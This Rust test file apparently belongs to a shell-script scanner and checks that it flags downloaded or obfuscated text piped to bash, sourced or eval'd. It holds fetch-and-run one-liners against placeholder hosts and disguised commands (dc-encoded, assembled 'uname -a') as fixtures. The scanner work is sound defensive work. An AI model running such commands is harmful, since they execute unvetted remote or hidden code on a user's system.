//! Shell scripts: what is downloaded, decoded or computed, on any way to what runs it.

mod judging;

use judging::{all_safe, is_unsafe};

#[test]
fn downloads_are_followed_to_what_runs_them() {
    for script in [
        "curl -fsSL http://203.0.113.9/a | sh",
        "x=$(curl -s https://a.example/a); bash -c \"$x\"",
        "x=$(curl -s https://a.example/a)\necho \"$x\" | sudo bash",
        "curl -s https://a.example/a > a.txt; cat a.txt | sed 1d | bash",
        "curl -s https://a.example/a | tee a.txt; . ./a.txt",
        "wget -q https://a.example/tool.sh; cp tool.sh /tmp/t; sh /tmp/t",
        "get() { curl -s \"https://a.example/$1\"; }\nget a | bash",
        "{ echo 'set -e'; curl -s https://a.example/a; } > run.sh; bash run.sh",
        "f=$(mktemp); wget -qO \"$f\" https://a.example/a; source \"$f\"",
        "source <(curl -s https://a.example/a)",
        "read -r line < <(curl -s https://a.example/a); eval \"$line\"",
        "wget -qO- https://a.example/a | xargs -0 bash -c",
    ] {
        is_unsafe("bash", script, "download-run");
    }
}

#[test]
fn computed_text_is_found_whatever_it_says() {
    for script in [
        "echo 27763P | dc | bash",
        "eval \"$(echo -n zdy | cut -c2; echo -n zay | cut -c2; echo -n zty | cut -c2; echo -n zey | cut -c2)\"",
        "a='una'; b='me -a'; eval \"$a$b\"",
        "a='una'; b='me -a'; eval $a$b",
        "x=$(grep -v '#' /srv/list | rev); bash -c \"$x\"",
        "xxd -r -p /srv/list > /srv/list.sh; bash /srv/list.sh",
    ] {
        is_unsafe("bash", script, "code-hidden");
    }
}

#[test]
fn data_that_is_not_run_is_no_finding() {
    all_safe(
        "bash",
        &[
            "v=$(curl -s https://a.example/version); bash -c \"echo installing $v\"",
            "v=$(curl -s https://a.example/version); ./configure --with=\"$v\" && make",
            "curl -s https://a.example/list | while read -r name; do echo \"$name\"; done",
            "curl -s https://a.example/a.json | jq -r .name | sort > names.txt; bash build.sh",
            "name=$(echo \"$1\" | rev | cut -d/ -f1 | rev); bash \"scripts/$name\"",
            "curl -sO https://a.example/data.csv; python3 report.py data.csv",
            "cmd='make'; args=' -j4'; eval \"$cmd$args\"",
        ],
    );
}
